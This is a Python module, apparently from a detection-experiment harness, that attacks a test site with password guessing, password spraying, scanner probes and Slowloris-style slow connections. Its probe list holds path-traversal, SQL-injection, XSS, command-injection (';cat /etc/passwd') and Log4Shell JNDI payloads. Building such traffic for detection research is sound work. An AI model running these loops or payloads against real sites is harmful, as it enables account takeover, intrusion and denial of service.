"""Attacks on the site, run on a host: ``python -m experiments.detection.webattacker KIND SETTINGS`` (JSON).

``guess`` tries passwords of one account, ``spray`` one password on many accounts, ``probe`` asks for what scanners ask
for; ``headers`` and ``body`` hold connections open and send a byte a second. Each prints what it has done, a line of
JSON each time: ``{"time", "count", "status"}``; the status is null for what was not answered.
"""

from __future__ import annotations

import itertools
import json
import secrets
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import httpx

from experiments.instruments.visit import TRUST, Page
from topo.plan import SITE

SECONDS, LOG_IN_SECONDS, TICK = 2.0, 6.0, 1.0
#: connections at once, as programs that guess passwords have them
GUESSERS = 4
ADDRESS = f"https://{SITE}"
PATHS = (
    "/.env",
    "/.git/config",
    "/admin",
    "/administrator/index.php",
    "/backup.sql",
    "/cgi-bin/test.cgi",
    "/config.php.bak",
    "/phpmyadmin/",
    "/server-status",
    "/wp-admin/",
    "/wp-login.php",
    "/xmlrpc.php",
    "/actuator/env",
    "/static/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/messages?before=1'%20OR%20'1'='1",
    "/messages?before=1%20UNION%20SELECT%20password_hash%20FROM%20users--",
    "/login?name=<script>alert(1)</script>",
    "/login?name=;cat%20/etc/passwd",
    "/messages?before=${jndi:ldap://x/a}",
)


def say(count: int, status: int | None = None) -> None:
    """So much was done just now."""
    sys.stdout.write(json.dumps({"time": time.time(), "count": count, "status": status}) + "\n")
    sys.stdout.flush()


class LogInForm:
    """The site's log-in, asked again and again over one connection."""

    def __init__(self) -> None:
        self._client = httpx.Client(verify=ssl.create_default_context(cafile=TRUST), timeout=LOG_IN_SECONDS)
        self._token = ""

    def ask(self, name: str, password: str) -> int | None:
        """The status of an attempt; None when nobody answered."""
        with suppress(httpx.HTTPError, LookupError):
            self._token = self._token or self._fresh()
            fields = {"csrf_token": self._token, "name": name, "password": password}
            sent = self._client.post(f"{ADDRESS}/login", data=fields, headers={"Referer": f"{ADDRESS}/login"})
            return sent.status_code
        return None

    def _fresh(self) -> str:
        page = Page(self._client.get(f"{ADDRESS}/login").text)
        return page.form_with("password").fields["csrf_token"]


def guess(name: str) -> None:
    """Passwords of one account."""
    _side_by_side(lambda _: (name, secrets.token_urlsafe(8)))


def spray(tag: str) -> None:
    """One password on many accounts."""
    _side_by_side(lambda number: (f"{tag}-{number}-{secrets.token_hex(3)}", "Summer2026!"))


def _side_by_side(typed: Callable[[int], tuple[str, str]]) -> None:
    """Attempts over a few connections; ``typed``: name and password of an attempt, by its number."""
    numbers = itertools.count()

    def work() -> None:
        form = LogInForm()
        while True:
            status = form.ask(*typed(next(numbers)))
            say(int(status is not None and status < 500), status)  # a site that fails has judged no guess
            if status == 429:
                time.sleep(1.0)

    guessers = [threading.Thread(target=work) for _ in range(GUESSERS)]
    for guesser in guessers:
        guesser.start()


def probe() -> None:
    """The list, again and again: each time with other queries."""
    headers = {"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"}
    with httpx.Client(verify=ssl.create_default_context(cafile=TRUST), timeout=SECONDS, headers=headers) as client:
        for number in itertools.count():
            path = PATHS[number % len(PATHS)]
            status = None
            with suppress(httpx.HTTPError):
                status = client.get(f"{ADDRESS}{path}{'&' if '?' in path else '?'}n={number}").status_code
            say(1, status)


# --- slow clients --------------------------------------------------------------------------------------------------

HEADERS = f"GET / HTTP/1.1\r\nHost: {SITE}\r\nUser-Agent: Mozilla/5.0\r\nX-Slow: ".encode()
BODY = (
    f"POST /login HTTP/1.1\r\nHost: {SITE}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    f"Content-Length: 4000\r\n\r\nname="
).encode()


def held(connections: int, beginning: bytes) -> None:
    """So many at once, each opened again when it is closed; a byte on each of them every second."""
    trust = ssl.create_default_context(cafile=TRUST)
    open_now: list[ssl.SSLSocket] = []
    while True:
        began = time.monotonic()
        open_now[:] = [connection for connection in open_now if _sent(connection, b"a")]
        while len(open_now) < connections and time.monotonic() - began < TICK:
            connection = _opened(trust, beginning)
            if connection is None:
                break
            open_now.append(connection)
        if open_now:
            say(len(open_now))
        time.sleep(max(0.0, began + TICK - time.monotonic()))


def _opened(trust: ssl.SSLContext, beginning: bytes) -> ssl.SSLSocket | None:
    with suppress(OSError):
        raw = socket.create_connection((SITE, 443), timeout=0.5)
        try:
            connection = trust.wrap_socket(raw, server_hostname=SITE)
        except OSError:
            raw.close()
            raise
        if _sent(connection, beginning):
            return connection
    return None


def _sent(connection: ssl.SSLSocket, content: bytes) -> bool:
    """False, and closed, when the other end has closed it."""
    try:
        connection.sendall(content)
        connection.settimeout(0.0)
        with suppress(ssl.SSLWantReadError):
            if not connection.recv(1):
                raise ConnectionResetError
            raise ConnectionResetError  # an answer already: it is over
        connection.settimeout(0.5)
    except OSError:
        connection.close()
        return False
    return True


KINDS: dict[str, Callable[..., None]] = {
    "guess": guess,
    "spray": spray,
    "probe": probe,
    "headers": lambda connections: held(connections, HEADERS),
    "body": lambda connections: held(connections, BODY),
}


def lines(output: str) -> Iterator[dict[str, Any]]:
    """The whole lines of an output; what a killed program was writing is left out."""
    for line in output.splitlines():
        with suppress(ValueError):
            row = json.loads(line)
            if isinstance(row, dict) and isinstance(row.get("time"), float):
                yield row


if __name__ == "__main__":
    KINDS[sys.argv[1]](**json.loads(sys.argv[2]))
